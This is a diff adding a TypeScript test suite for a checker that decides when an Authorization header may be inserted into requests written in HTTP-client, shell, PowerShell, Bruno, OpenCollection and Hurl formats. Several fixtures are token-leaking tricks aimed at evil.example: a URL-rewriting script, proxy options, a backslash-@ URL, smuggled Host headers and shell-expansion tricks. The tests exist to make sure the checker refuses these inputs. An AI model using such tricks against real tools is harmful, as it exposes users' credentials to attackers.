@@ -1,0 +1,387 @@
+import assert from 'node:assert/strict';
+import { brunoFormat } from '../../../../src/core/formats/bruno';
+import { httpFormat } from '../../../../src/core/formats/http';
+import { hurlFormat } from '../../../../src/core/formats/hurl';
+import { markdownFormat } from '../../../../src/core/formats/markdown';
+import { openCollectionFormat } from '../../../../src/core/formats/openCollection';
+import type { RequestFormat } from '../../../../src/core/formats/requestFormat';
+import { cmdFormat, posixFormat, powershellFormat } from '../../../../src/core/formats/shell';
+import { createInsertionChecker } from '../../../../src/core/requestAnalysis/insertionRules';
+import { exampleFor } from '../../../support/example';
+import { profileWith } from '../../../support/fakes';
+import { edited, everyLine } from '../../../support/formatCases';
+
+const acme = profileWith();
+const prod = profileWith({ id: 'p2', name: 'prod', origin: 'https://v1.api.eu.janrain.com' });
+const at = `${acme.origin}/${acme.customerId}`;
+const http = httpFormat('restClient');
+
+/** What becomes of the requests of a text: how many are changed, and why others are not. */
+function outcome(
+  format: RequestFormat,
+  text: string,
+  { isLiteral = false, includeUnconfirmed = false, cursors = everyLine(text) } = {},
+): string {
+  const checkInsertion = createInsertionChecker(isLiteral ? [acme] : [acme, prod], isLiteral);
+  const { plan, text: after } = edited(format, text, cursors, { checkInsertion, includeUnconfirmed });
+  if (plan.changed === 0) assert.equal(after, text);
+  return [
+    ...(plan.changed > 0 ? [`changed ${plan.changed}`] : []),
+    ...plan.unconfirmed.map(({ line, check }) =>
+      check.kind === 'unknown'
+        ? `unknown ${line}: ${check.reason}`
+        : `stray ${line}: ${check.customerId ?? check.host}`,
+    ),
+    ...plan.refused
+      .filter(({ kind }) => kind === 'login' || kind === 'elsewhere')
+      .map(({ kind, line }) => `${kind} ${line}`),
+  ].join(', ');
+}
+
+describe('who may get the header', () => {
+  const other = '9zy87x65-4321-0987-w6vu-5t432s10rqp9';
+  const urls: readonly [title: string, url: string, expected: RegExp][] = [
+    ['the profile', `${at}/config/clients`, /^changed 1$/],
+    ['another one of the profiles', `${prod.origin}/${prod.customerId}/config/clients`, /^changed 1$/],
+    ['another host', 'https://api.github.com/user', /^stray \d: https:\/\/api\.github\.com$/],
+    ['another host with a path like ours', `https://h.example/${acme.customerId}/config/clients`, /^stray/],
+    ['another customer', `${acme.origin}/${other}/config/clients`, new RegExp(`^stray \\d: ${other}$`)],
+    ['a login endpoint', `${at}/login/token`, /^login \d$/],
+    ['a login endpoint of somebody else', 'https://github.com/login/oauth/access_token', /^stray/],
+  ];
+  const formats: readonly [title: string, format: RequestFormat, write: (url: string) => string][] = [
+    ['a request file', http, url => `GET ${url}\n`],
+    ['curl in a request file', http, url => `curl ${url}\n`],
+    ['a fence', markdownFormat('restClient'), url => `\`\`\`http\nGET ${url}\n\`\`\`\n`],
+    ['a fence of a shell', markdownFormat('restClient'), url => `\`\`\`sh\ncurl ${url}\n\`\`\`\n`],
+    ['a shell script', posixFormat, url => `curl -s "${url}"\n`],
+    ['an option for it', posixFormat, url => `curl --url ${url}\n`],
+    ['PowerShell', powershellFormat, url => `Invoke-RestMethod -Uri "${url}"\n`],
+    ['PowerShell without the parameter', powershellFormat, url => `irm ${url}\n`],
+    ['curl in PowerShell', powershellFormat, url => `curl.exe ${url}\n`],
+    ['a batch file', cmdFormat, url => `curl ${url}\n`],
+    ['Bruno', brunoFormat, url => `get {\n  url: ${url}\n}\n`],
+    [
+      'OpenCollection',
+      openCollectionFormat,
+      url => `info:\n  type: http\nhttp:\n  method: GET\n  url: ${url}\n`,
+    ],
+    ['Hurl', hurlFormat, url => `GET ${url}\n`],
+  ];
+  for (const [where, format, write] of formats) {
+    for (const [title, url, expected] of urls) {
+      it(`${title}, in ${where}`, () => {
+        assert.match(outcome(format, write(url)), expected);
+      });
+    }
+  }
+
+  const variables: readonly [title: string, format: RequestFormat, text: string, expected: RegExp][] = [
+    ['a path of ours', http, 'GET {{origin}}/{{customer}}/config/clients\n', /^changed 1$/],
+    ['a path of ours', posixFormat, 'curl "$ORIGIN/${ID}/config/clients/$1"\n', /^changed 1$/],
+    ['a path of ours', powershellFormat, 'irm "$base/$env:ID/config/clients"\n', /^changed 1$/],
+    ['a path of ours', cmdFormat, 'curl %ORIGIN%/%ID%/config/clients\n', /^changed 1$/],
+    ['a path of ours', hurlFormat, 'GET {{origin}}/{{customer}}/config/clients\n', /^changed 1$/],
+    ['nothing of ours', http, 'GET {{host}}/x\n', /^unknown 0: only the REST client knows \{\{host\}\}$/],
+    ['nothing of ours', posixFormat, 'curl "$URL"\n', /^unknown 0: .*\$URL/],
+    ['nothing of ours', posixFormat, 'curl https://$HOST/config/clients\n', /^unknown/],
+    ['nothing of ours', powershellFormat, 'irm $url\n', /^unknown/],
+    ['nothing of ours', cmdFormat, 'curl %URL%\n', /^unknown/],
+    ['nothing of ours', brunoFormat, 'get {\n  url: {{base}}/x\n}\n', /^unknown/],
+    ['the file’s value', http, `@h = ${acme.origin}\nGET {{h}}/x\n`, /^changed 1$/],
+    ['the file’s value of another', http, '@h = https://x.example\nGET {{h}}/x\n', /^stray 1/],
+    ['a login endpoint', http, 'POST {{origin}}/{{customer}}/login/token\n', /^login 0$/],
+    ['a proxy', http, `curl ${at}/x --proxy http://p\n`, /^unknown 0: its command has --proxy$/],
+    ['a proxy', posixFormat, `curl ${acme.origin}/x -x http://p\n`, /^unknown 0: its command has -x$/],
+    ['a file that may hold the header too', posixFormat, 'curl -K request.txt\n', /^elsewhere 0$/],
+  ];
+  for (const [title, format, text, expected] of variables) {
+    it(`${title}: ${text.trim()}`, () => {
+      assert.match(outcome(format, text), expected);
+    });
+  }
+
+  describe('where something leads a request elsewhere', () => {
+    const evil = 'https://evil.example';
+    const get = `GET ${at}/config/clients`;
+    const doubted: readonly [title: string, format: RequestFormat, text: string][] = [
+      ['a script', http, `{{@request\nrequest.url = '${evil}';\n}}\n${get}\n`],
+      ['a proxy', http, `# @proxy http://evil.example\n# @noRejectUnauthorized\n${get}\n`],
+      ['another file', http, `# @import ./x.http\n${get}\n`],
+      ['a backslash', http, `GET ${acme.origin}\\@evil.example/${acme.customerId}/config/clients\n`],
+      ['a backslash', hurlFormat, `GET ${acme.origin}\\@evil.example/${acme.customerId}/config/clients\n`],
+      [
+        'a backslash',
+        posixFormat,
+        `curl "${acme.origin}\\@evil.example/${acme.customerId}/config/clients"\n`,
+      ],
+      ['a tab in a command', http, `curl\t-o ${evil} ${at}/config/clients\n`],
+      ['quotes in front of an option', http, `curl -s ''-o ${evil} ${at}/config/clients\n`],
+      ['a header that only REST Client reads', http, `${get}\n'x: 1\nHost: evil.example\n`],
+      ['a header with a variable for its name', http, `@h = Host\n${get}\n{{h}}: evil.example\n`],
+      ['a header behind another end of line', http, `${get}\nX: a\u2028Host: evil.example\n`],
+    ];
+    for (const [title, format, text] of doubted) {
+      it(`neither the reference nor the token: ${title}: ${text.trim()}`, () => {
+        for (const isLiteral of [false, true]) assert.match(outcome(format, text, { isLiteral }), /^unknown/);
+      });
+    }
+
+    it('not the second request of a block, which REST Client sends as the body of the first', () => {
+      const below = (between: string) => `POST ${evil}\n\n{}\n${between}\n${get}\n`;
+      for (const [format, text] of [
+        [http, below('')],
+        [http, below(' ###')],
+        [markdownFormat('restClient'), `\`\`\`http\n${below('###')}\`\`\`\n`],
+      ] as const) {
+        const cursors = [text.split('\n').indexOf(get)];
+        assert.match(outcome(format, text, { cursors }), /^unknown \d+: REST Client sends another request/);
+      }
+      const text = below('');
+      assert.equal(
+        outcome(httpFormat('httpYac'), text, { cursors: [text.split('\n').indexOf(get)] }),
+        'changed 1',
+      );
+    });
+
+    it('the reference, where a value is known to the client alone, and not the token', () => {
+      for (const header of ['If-Match: {{etag}}', 'X-A: {{$dotenv A}}', 'X-A: {{a.response.body.x}}']) {
+        const text = `${get}\n${header}\n`;
+        assert.equal(outcome(http, text), 'changed 1', header);
+        assert.match(outcome(http, text, { isLiteral: true }), /^unknown/, header);
+      }
+      const other = `GET ${acme.origin}/a\nAuthorization: Bearer {{HOSTED_LOGIN_TOKEN}}\n`;
+      assert.equal(outcome(http, other), 'changed 1', 'a path that does not say whose it is');
+    });
+  });
+
+  describe('in other files than those of REST clients', () => {
+    const url = `${at}/config/clients`;
+    const evil = 'https://evil.example';
+    const hurl = (rest: string) => `GET ${url}\n${rest}\nHTTP 200\n`;
+    const bru = (rest: string) => `get {\n  url: ${url}\n}\n\n${rest}\n`;
+    const yaml = (rest: string) => `info:\n  type: http\nhttp:\n  method: GET\n  url: ${url}\n${rest}\n`;
+    const headers = (name: string, value: string, more = '') =>
+      yaml(`  headers:\n    - name: ${name}\n      value: ${value}${more}`);
+    const rows: readonly [
+      title: string,
+      format: RequestFormat,
+      text: string,
+      reference: RegExp,
+      token: RegExp,
+    ][] = [
+      ...[
+        'proxy: evil.example:8080',
+        'connect-to: a:443:evil.example:443',
+        'resolve: a:443:6.6.6.6',
+        'unix-socket: /tmp/x',
+        'location-trusted: true',
+        'insecure: true',
+      ].map((option): [string, RequestFormat, string, RegExp, RegExp] => [
+        'an option',
+        hurlFormat,
+        hurl(`[Options]\n${option}`),
+        /^unknown 0: its options have/,
+        /^unknown/,
+      ]),
+      [
+        'options that change nothing',
+        hurlFormat,
+        hurl('[Options]\nlocation: true\nretry: 2'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ['a name with escapes', hurlFormat, hurl('Ho\\u{73}t: evil.example'), /^unknown/, /^unknown/],
+      ['a Host header', brunoFormat, bru('headers {\n  Host: evil.example\n}'), /^stray/, /^stray/],
+      [
+        'a Host header that is off',
+        brunoFormat,
+        bru('headers {\n  ~Host: evil.example\n}'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'a script',
+        brunoFormat,
+        bru(`script:pre-request {\n  req.setUrl("${evil}/x")\n}`),
+        /^unknown .*script/,
+        /^unknown/,
+      ],
+      [
+        'a script behind the answer',
+        brunoFormat,
+        bru('script:post-response {\n  x()\n}'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ['a Host header', openCollectionFormat, headers('Host', 'evil.example'), /^stray/, /^stray/],
+      [
+        'a Host header with escapes',
+        openCollectionFormat,
+        headers('"H\\u006fst"', 'evil.example'),
+        /^stray/,
+        /^stray/,
+      ],
+      [
+        'a Host header that is off',
+        openCollectionFormat,
+        headers('Host', 'evil.example', '\n      disabled: true'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'headers on one line',
+        openCollectionFormat,
+        yaml('  headers: [{name: Host, value: evil.example}]'),
+        /^unknown/,
+        /^unknown/,
+      ],
+      [
+        'other headers',
+        openCollectionFormat,
+        headers('Accept', 'application/json'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'a script',
+        openCollectionFormat,
+        yaml('runtime:\n  scripts:\n    - type: before-request\n      code: x()'),
+        /^unknown .*script/,
+        /^unknown/,
+      ],
+      [
+        'scripts on one line',
+        openCollectionFormat,
+        yaml('runtime: {scripts: [{type: before-request}]}'),
+        /^unknown .*script/,
+        /^unknown/,
+      ],
+      [
+        'a script behind the answer',
+        openCollectionFormat,
+        yaml('runtime:\n  scripts:\n    - type: after-response\n      code: x()'),
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      [
+        'a proxy',
+        powershellFormat,
+        `irm ${url} -Proxy http://evil.example:8080\n`,
+        /^unknown 0: its command has -Proxy/,
+        /^unknown/,
+      ],
+      [
+        'a certificate that nobody checks',
+        powershellFormat,
+        `irm ${url} -SkipCert\n`,
+        /^unknown/,
+        /^unknown/,
+      ],
+      [
+        'a Host header',
+        powershellFormat,
+        `irm ${url} -Headers @{ Host = 'evil.example' }\n`,
+        /^stray/,
+        /^stray/,
+      ],
+      [
+        'other parameters',
+        powershellFormat,
+        `irm ${url} -PassThru -Method Get -OutFile x -Headers @{ Accept = 'a' }\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ['braces', posixFormat, `curl ${url} -o {a,${evil}/x}\n`, /^unknown 0: the shell may make/, /^unknown/],
+      [
+        'braces that are quoted',
+        posixFormat,
+        `curl ${url} -d '{a,${evil}/x}' -w %{http_code}\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ...['$X', '$(echo x)', '"$@"', '"${a[@]}"', '*', 'x$IFS"y"'].map(
+        (word): [string, RequestFormat, string, RegExp, RegExp] => [
+          'words of the shell',
+          posixFormat,
+          `curl ${url} -o ${word}\n`,
+          word.startsWith('"') ? /^$|^changed 1$/ : /^changed 1$/,
+          /^unknown 0: the shell may make|^$/,
+        ],
+      ),
+      ['a variable in quotes', posixFormat, `curl "${url}?a=b" -o "$FILE"\n`, /^changed 1$/, /^changed 1$/],
+      ['a query', posixFormat, `curl ${url}?a=b\n`, /^changed 1$/, /^changed 1$/],
+      [
+        'a variable',
+        powershellFormat,
+        `curl.exe ${url} -o $file\n`,
+        /^changed 1$/,
+        /^unknown 0: the shell may make/,
+      ],
+      ['an argument', cmdFormat, `curl -o %1 ${url}\n`, /^changed 1$/, /^unknown 0: the shell may make/],
+    ];
+    for (const [title, format, text, reference, token] of rows) {
+      it(`${title}: ${text.trim()}`, () => {
+        assert.match(outcome(format, text), reference, 'the reference');
+        assert.match(outcome(format, text, { isLiteral: true }), token, 'the token');
+      });
+    }
+  });
+
+  it('all but the token requests of the example', () => {
+    const example = exampleFor(acme);
+    assert.match(outcome(http, example, { cursors: [0] }), /^$|changed/);
+    const found = outcome(http, example);
+    assert.match(found, /^changed 1, login \d+, login \d+$/, found);
+  });
+
+  it('those to somebody else too, where that is wanted', () => {
+    const text = `GET ${at}/config/clients\n\n###\nGET https://api.github.com/user\n\n###\nPOST ${at}/login/token\n`;
+    assert.equal(outcome(http, text), 'changed 1, stray 3: https://api.github.com, login 6');
+    assert.equal(outcome(http, text, { includeUnconfirmed: true }), 'changed 2, login 6');
+  });
+
+  it('with the token itself, only where it surely goes to the profile', () => {
+    const literal = (url: string) => outcome(http, `GET ${url}\n`, { isLiteral: true });
+    assert.equal(literal(`${at}/config/clients`), 'changed 1');
+    assert.match(literal(`${prod.origin}/x`), /^stray/);
+    assert.match(literal('{{origin}}/{{customer}}/config/clients'), /^unknown/);
+  });
+
+  describe('of one curl command', () => {
+    for (const [where, format] of [
+      ['a request file', http],
+      ['a shell script', posixFormat],
+    ] as const) {
+      const reference = `-H "Authorization: Bearer ${format.reference}"`;
+      const checkInsertion = createInsertionChecker([acme], false);
+
+      it(`each of its requests, in ${where}`, () => {
+        const text = `curl -s ${at}/a --next -X PUT ${at}/b -d x -: ${at}/c\n`;
+        const inserted = edited(format, text, [0], { checkInsertion });
+        assert.equal(
+          inserted.text,
+          `curl -s ${at}/a ${reference} --next -X PUT ${at}/b ${reference} -d x -: ${at}/c ${reference}\n`,
+        );
+        assert.equal(inserted.plan.changed, 3);
+        assert.equal(edited(format, inserted.text, [0], { checkInsertion }).plan.changed, 0);
+        assert.equal(edited(format, inserted.text, [0], { token: undefined }).text, text);
+      });
+
+      it(`those to somebody else are told, in ${where}`, () => {
+        assert.equal(
+          outcome(format, `curl ${at}/a \\\n  --next https://api.github.com/b\n`),
+          'changed 1, stray 1: https://api.github.com',
+        );
+      });
+
+      it(`over several lines, in ${where}`, () => {
+        const text = `curl ${at}/a \\\n  -s \\\n  --next \\\n  ${at}/b \\\n  -o x\n`;
+        assert.equal(
+          edited(format, text, [0], { checkInsertion }).text,
+          `curl ${at}/a \\\n  ${reference} \\\n  -s \\\n  --next \\\n  ${at}/b \\\n  ${reference} \\\n  -o x\n`,
+        );
+      });
+    }
+  });
+});
